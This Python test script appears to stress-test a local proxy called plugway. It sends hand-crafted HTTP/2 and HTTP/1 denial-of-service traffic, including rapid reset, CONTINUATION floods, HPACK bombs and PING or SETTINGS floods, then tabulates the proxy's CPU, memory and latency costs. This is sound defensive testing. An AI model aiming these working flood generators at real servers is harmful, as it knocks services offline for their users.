"""Attacks on HTTP/2 and HTTP/1 by one client, and honest traffic that resembles them: prints what each costs.

    python3 tests/drills/http2_attacks.py target/release/plugway

For each attack: bytes and frames that were sent before the proxy ended it, how it ended, processor time of the proxy in
all and per MiB of attack, memory that the proxy has grown by, and the latency of other clients meanwhile. Frames are
made by hand; nothing but the standard library is needed.
"""

import os
import re
import select
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
ACK = END_STREAM = 1
END_HEADERS = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = b"\x82\x86\x84\x41\x01a"
POST = b"\x83\x86\x84\x41\x01a"
SECONDS = 5
NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 3: "FLOW_CONTROL_ERROR", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# === The proxy and its surroundings ===

def origin():
    """Answers `/N` with N bytes, other paths with two; content is read and dropped. Returns the port."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=1000)

    def serve(stream):
        reader = stream.makefile("rb")
        while line := reader.readline():
            head = b""
            while (field := reader.readline()) not in (b"\r\n", b""):
                head += field.lower()
            if b"transfer-encoding: chunked" in head:
                while size := int(reader.readline().split(b";")[0], 16):
                    reader.read(size + 2)
                while reader.readline() not in (b"\r\n", b""):
                    pass
            elif length := re.search(rb"content-length: (\d+)", head):
                reader.read(int(length[1]))
            number = re.match(rb"\w+ /(\d+) ", line)
            body = b"x" * (int(number[1]) if number else 2)
            stream.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % len(body) + body)

    def guarded(stream):
        try:
            serve(stream)
        except (OSError, ValueError):
            pass
        finally:
            stream.close()

    def accept():
        while True:
            stream, _ = listener.accept()
            threading.Thread(target=guarded, args=(stream,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    return listener.getsockname()[1]


def parrot():
    """Sends chunked content back as it comes. Returns the port."""
    listener = socket.create_server(("127.0.0.1", 0))

    def serve(stream):
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            head += stream.recv(1)
        stream.sendall(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n")
        while piece := stream.recv(1 << 16):
            stream.sendall(piece)

    def accept():
        while True:
            threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    return listener.getsockname()[1]


class Proxy:
    def __init__(self, program, port, limits=""):
        self.folder = tempfile.TemporaryDirectory()
        path = os.path.join(self.folder.name, "plugway.toml")
        with open(path, "w") as manifest:
            manifest.write(
                f'workers = 1\n[admin]\naddress = "off"\n[[listener]]\naddress = "127.0.0.1:0"\nlimits = {{ {limits} }}\n'
                f'[upstream.app]\nendpoints = ["127.0.0.1:{port}"]\n[[route]]\nupstream = "app"\nplugins = []\n'
            )
        self.process = subprocess.Popen([program, "run", path], stderr=subprocess.PIPE, text=True)
        self.lines = 0
        for line in self.process.stderr:
            if found := re.search(r"listening at http://127.0.0.1:(\d+)", line):
                self.port = int(found[1])
                break
        threading.Thread(target=self.count_lines, daemon=True).start()
        self.others = []
        self.ask()

    def count_lines(self):
        for _ in self.process.stderr:
            self.lines += 1

    def connect(self):
        stream = socket.create_connection(("127.0.0.1", self.port))
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return stream

    def ask(self):
        with self.connect() as stream:
            stream.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
            return stream.makefile("rb").read().startswith(b"HTTP/1.1 200")

    def ask_on(self, stop, latencies):
        """Another client, with a connection that is kept."""
        stream = self.connect()
        reader = stream.makefile("rb")
        while not stop.is_set():
            began = time.perf_counter()
            stream.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
            while reader.readline() not in (b"\r\n", b""):
                pass
            reader.read(2)
            latencies.append(time.perf_counter() - began)
            time.sleep(0.002)

    def memory(self):
        with open(f"/proc/{self.process.pid}/status") as status:
            return int(re.search(r"VmRSS:\s+(\d+)", status.read())[1])

    def processor(self):
        with open(f"/proc/{self.process.pid}/stat") as stat:
            fields = stat.read().rsplit(") ", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def end(self):
        self.process.kill()
        self.process.wait()


# === One client that sends what it likes ===

class Client:
    """Sends pieces for some seconds, or until the proxy ends the connection; reads meanwhile, if it is to read."""

    def __init__(self, proxy, reads=True):
        self.stream, self.reads = proxy.connect(), reads
        self.sent, self.got, self.end = 0, b"", "open"

    def run(self, pieces, seconds=SECONDS):
        self.stream.setblocking(False)
        until, left = time.monotonic() + seconds, b""
        pieces = iter(pieces)
        while time.monotonic() < until:
            left = left or next(pieces, b"")
            readable, writable, _ = select.select([self.stream], [self.stream] if left else [], [], 0.1)
            try:
                if readable and self.reads and not self.read():
                    return
                if writable:
                    sent = self.stream.send(left)
                    self.sent += sent
                    left = left[sent:]
            except OSError as error:
                self.end = self.end if self.end.startswith("GOAWAY") else type(error).__name__
                return

    def read(self):
        piece = self.stream.recv(1 << 16)
        # GOAWAY on the connection, with no debug data or some.
        self.got = (self.got + piece)[-(1 << 17):]
        if found := re.findall(rb"\x00\x00.\x07\x00\x00\x00\x00\x00....\x00\x00\x00(.)", self.got, re.S):
            self.end = "GOAWAY " + NAMES.get(found[-1][0], str(found[-1][0]))
        elif not piece:
            self.end = "closed" if self.end == "open" else self.end
        return bool(piece)


def endless(piece, count=64):
    piece = piece * max(1, count)
    while True:
        yield piece


def begun(*frames):
    return PREFACE + frame(SETTINGS) + b"".join(frames)


def opened(piece, first=b""):
    yield begun(first)
    yield from endless(piece)


def per_stream(*make):
    yield begun()
    for stream in range(1, 1 << 24, 2):
        yield b"".join(one(stream) for one in make)


def request(stream, block=GET):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block)


def reset(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def bomb(references):
    field = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    return GET + field + b"\xbe" * references


def bombs(references):
    """A field of 4,000 bytes once, and in each request references to it of a byte each."""
    yield begun(request(1, bomb(references)))
    for stream in range(3, 1 << 24, 2):
        yield request(stream, GET[:3] + b"\x01\x01a" + b"\xbe" * references)


def crumbs(count):
    yield begun(request(1, GET + b"\x60\x03a=1" + b"\xbe" * (count - 1)))
    for stream in range(3, 1 << 24, 2):
        yield request(stream, GET[:3] + b"\x01\x01a" + b"\xbe" * count)


def continuations():
    yield begun(frame(HEADERS, END_STREAM, 1, GET))
    yield from endless(frame(CONTINUATION, 0, 1, b"\x00\x01x\x7f\x80\x07" + b"y" * 1023), 1)


def continuations_per_stream(stream):
    return frame(HEADERS, END_STREAM, stream, GET) + frame(CONTINUATION, 0, stream) * 4 + frame(CONTINUATION, 4, stream)


ATTACKS = [
    ("rapid reset (CVE-2023-44487)", lambda: per_stream(request, reset)),
    ("MadeYouReset (CVE-2025-8671)", lambda: per_stream(
        request, lambda stream: frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"))),
    ("CONTINUATION flood (CVE-2024-27316)", continuations),
    ("empty CONTINUATIONs in each request", lambda: per_stream(continuations_per_stream)),
    ("HPACK bomb, 48 MB of fields", lambda: bombs(12_000)),
    ("HPACK bomb, 80 KB of fields", lambda: bombs(20)),
    ("HPACK bomb, 28 KB of fields (allowed)", lambda: bombs(7)),
    ("cookie crumbs, 900 (CVE-2026-49975)", lambda: crumbs(900)),
    ("cookie crumbs, 700 (allowed)", lambda: crumbs(700)),
    ("PING flood (CVE-2019-9512)", lambda: opened(frame(PING, 0, 0, bytes(8)))),
    ("PING ACK flood", lambda: opened(frame(PING, ACK, 0, bytes(8)))),
    ("SETTINGS flood (CVE-2019-9515)", lambda: opened(frame(SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00"))),
    ("PRIORITY flood (CVE-2019-9513)", lambda: opened(frame(PRIORITY, 0, 5, bytes(5)))),
    ("PRIORITY_UPDATE flood", lambda: opened(frame(16, 0, 0, b"\x00\x00\x00\x05u"))),
    ("empty DATA (CVE-2019-9518)", lambda: opened(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, POST))),
    ("WINDOW_UPDATE flood", lambda: opened(frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01"))),
    ("unknown frames", lambda: opened(frame(0x2A, 0, 0, bytes(100)))),
    ("RST_STREAM of a closed stream", lambda: opened(reset(1), request(1))),
    ("PUSH_PROMISE", lambda: opened(frame(5, 4, 1, b"\x00\x00\x00\x02" + GET), request(1))),
]

SILENT = [
    ("PING flood, nothing read", lambda: opened(frame(PING, 0, 0, bytes(8)))),
    ("SETTINGS flood, nothing read", lambda: opened(frame(SETTINGS))),
    ("buffering of responses (CVE-2019-9517)", lambda: iter([begun(
        frame(SETTINGS, 0, 0, b"\x00\x04\x7f\xff\xff\xff"), frame(WINDOW_UPDATE, 0, 0, b"\x7f\x00\x00\x00"),
        *[request(stream, b"\x82\x86\x41\x01a\x04\x09/10000000") for stream in range(1, 200, 2)])])),
    ("HTTP/1: pipelined, nothing read", lambda: endless(b"GET /1000 HTTP/1.1\r\nHost: a\r\n\r\n")),
]

CHUNKED = b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"


def after(head, piece):
    yield head
    yield from endless(piece)


HTTP1 = [
    ("HTTP/1: pipelined requests", lambda: endless(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")),
    ("HTTP/1: empty lines", lambda: endless(b"\r\n")),
    ("HTTP/1: extensions of chunks", lambda: after(CHUNKED, b"1;" + b"e" * 200 + b"\r\nx\r\n")),
    ("HTTP/1: chunks of one byte (allowed)", lambda: after(CHUNKED, b"1\r\nx\r\n")),
    ("HTTP/1: endless trailers", lambda: after(CHUNKED + b"0\r\n", b"X-Trailer: y\r\n")),
    ("HTTP/1: endless fields", lambda: after(b"GET / HTTP/1.1\r\nHost: a\r\n", b"X-Field: y\r\n")),
]


# === Honest traffic ===

def window_of(socket, stream, windows):
    """Reads frames until both windows are open; returns `False` at a farewell."""
    while min(windows) < 1 << 14:
        head = stream.read(9)
        if len(head) < 9:
            return False
        payload = stream.read(int.from_bytes(head[:3], "big"))
        if head[3] == GOAWAY:
            return False
        if head[3] == WINDOW_UPDATE:
            windows[head[8] > 0] += int.from_bytes(payload, "big")
        if head[3] == SETTINGS and not head[4] & ACK:
            for place in range(0, len(payload), 6):
                if payload[place:place + 2] == b"\x00\x04":
                    windows[1] += int.from_bytes(payload[place + 2:place + 6], "big") - 65_535
            socket.sendall(frame(SETTINGS, ACK))
    return True


def upload(proxy):
    """100 MiB in DATA frames of 1 KiB."""
    stream = proxy.connect()
    reader = stream.makefile("rb")
    stream.sendall(begun(frame(HEADERS, END_HEADERS, 1, POST)))
    windows, piece = [65_535, 65_535], frame(DATA, 0, 1, bytes(1024)) * 16
    for _ in range(100 * 64):
        if not window_of(stream, reader, windows):
            return "ended by the proxy"
        stream.sendall(piece)
        windows = [window - (1 << 14) for window in windows]
    stream.sendall(frame(DATA, END_STREAM, 1))
    while head := reader.read(9):
        reader.read(int.from_bytes(head[:3], "big"))
        if head[3] == DATA and head[8] == 1 and head[4] & END_STREAM:
            return "answered"
    return "ended by the proxy"


def messages(proxy):
    """20,000 messages of ten bytes to and fro, each with a PING and two WINDOW_UPDATEs."""
    stream = proxy.connect()
    reader = stream.makefile("rb")
    stream.sendall(begun(frame(HEADERS, END_HEADERS, 1, POST)))
    for number in range(20_000):
        stream.sendall(frame(DATA, 0, 1, b"0123456789"))
        got = 0
        while got < 10:
            head = reader.read(9)
            if len(head) < 9 or head[3] == GOAWAY:
                return f"ended by the proxy after {number}"
            length = int.from_bytes(head[:3], "big")
            reader.read(length)
            got += length if head[3] == DATA else 0
        ten = struct.pack(">I", 10)
        stream.sendall(frame(PING, 0, 0, bytes(8)) + frame(WINDOW_UPDATE, 0, 0, ten) + frame(WINDOW_UPDATE, 0, 1, ten))
    return "answered"


def h2load(proxy):
    """10,000 requests, 100 at a time, on one connection."""
    run = ["h2load", "-n", "10000", "-c", "1", "-m", "100", f"http://127.0.0.1:{proxy.port}/"]
    report = subprocess.run(run, capture_output=True, text=True).stdout
    return re.search(r"requests: .*", report)[0].replace(" total, 10000 started, 10000 done", "")


# === The table ===

def percentile(latencies, share):
    ordered = sorted(latencies)
    return ordered[min(len(ordered) - 1, int(len(ordered) * share))] * 1000 if ordered else float("nan")


def observed(proxy, act):
    stop, latencies = threading.Event(), []
    other = threading.Thread(target=proxy.ask_on, args=(stop, latencies))
    other.start()
    time.sleep(0.2)
    before, memory, began = proxy.processor(), proxy.memory(), time.monotonic()
    latencies.clear()
    outcome = act()
    took, spent, grown = time.monotonic() - began, proxy.processor() - before, proxy.memory() - memory
    stop.set()
    other.join()
    return outcome, took, spent, grown, latencies


def attack(program, port, name, pieces, reads):
    proxy = Proxy(program, port)
    try:
        client = Client(proxy, reads)
        _, took, spent, grown, latencies = observed(proxy, lambda: client.run(pieces()))
        mib = client.sent / (1 << 20)
        served = "yes" if proxy.ask() else "NO"
        print(f"| {name} | {client.sent:,} | {client.end} after {took:.2f} s | {spent * 1000:.0f} | "
              f"{spent * 1000 / mib:.0f} | {grown:+,} | {percentile(latencies, 0.5):.1f} / "
              f"{percentile(latencies, 0.99):.1f} | {proxy.lines} | {served} |", flush=True)
    finally:
        proxy.end()


def main():
    program, port = sys.argv[1], origin()
    print("| attack | bytes sent | end | CPU, ms | CPU, ms per MiB | memory, KiB | others' p50 / p99, ms | log lines | others served |")
    print("|---|---|---|---|---|---|---|---|---|")
    quiet = Proxy(program, port)
    _, _, _, _, latencies = observed(quiet, lambda: time.sleep(SECONDS))
    quiet.end()
    print(f"| (quiet) | 0 | | | | | {percentile(latencies, 0.5):.1f} / {percentile(latencies, 0.99):.1f} | 0 | yes |")
    for name, pieces in ATTACKS + HTTP1:
        attack(program, port, name, pieces, True)
    for name, pieces in SILENT:
        attack(program, port, name, pieces, False)
    print("\n| honest traffic | outcome | seconds | CPU, ms |\n|---|---|---|---|")
    for name, act, port in [("100 MiB upload in DATA of 1 KiB", upload, port), ("20,000 messages of 10 bytes", messages, parrot()),
                            ("h2load, 10,000 requests, 100 streams", h2load, port)]:
        proxy = Proxy(program, port, "requests = 1000000")
        began, before = time.monotonic(), proxy.processor()
        outcome = act(proxy)
        print(f"| {name} | {outcome} | {time.monotonic() - began:.1f} | {(proxy.processor() - before) * 1000:.0f} |", flush=True)
        proxy.end()


main()
